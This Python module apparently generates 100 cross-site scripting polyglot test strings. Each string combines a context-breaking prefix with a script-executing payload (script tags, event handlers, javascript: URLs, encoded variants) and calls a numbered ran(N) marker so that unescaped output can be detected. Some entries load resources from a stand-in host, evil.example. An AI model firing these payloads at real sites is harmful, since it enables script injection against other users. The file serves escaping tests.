"""A hundred texts that become a script wherever one place forgets to escape: each calls ran(N), N its own number."""

OPENINGS = ["", "\"", "'", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
            "</a>", "\\\"", "\\'", "${", "{{"]
ENDS = ["<script>ran({n})</script>", "<img src=x onerror=ran({n})>", "<svg/onload=ran({n})>", "<svg><script>ran({n})</script>",
        " autofocus onfocus=ran({n}) x=", "<iframe srcdoc=\"&lt;script&gt;parent.ran({n})&lt;/script&gt;\">"]
WHOLE = ["javascript:ran({n})", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran({n}) )//", "ran({n})//", "';ran({n});//",
         "\";ran({n});//", "data:text/html,<script>ran({n})</script>", "&lt;script&gt;ran({n})&lt;/script&gt;",
         "<math><mtext></form><form><mglyph><style></math><img src onerror=ran({n})>", "<a href=javascript:ran({n})>x</a>",
         "<base href=//evil.example/>ran({n})", "<link rel=stylesheet href=//evil.example/{n}>",
         "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>", "<details open ontoggle=ran({n})>",
         "<style>@import '//evil.example/{n}'</style>", "x\u2028ran({n})", "\ufeff<script>ran({n})</script>", "＜script＞ran({n})＜/script＞",
         "%3Cscript%3Eran({n})%3C/script%3E"]


def polyglots():
    texts = [o + e for e in ENDS for o in OPENINGS]
    texts = WHOLE + texts[:: max(1, len(texts) // (100 - len(WHOLE)))]
    return [t.replace("{n}", str(n)) for n, t in enumerate((texts + [o + ENDS[0] for o in OPENINGS])[:100])]
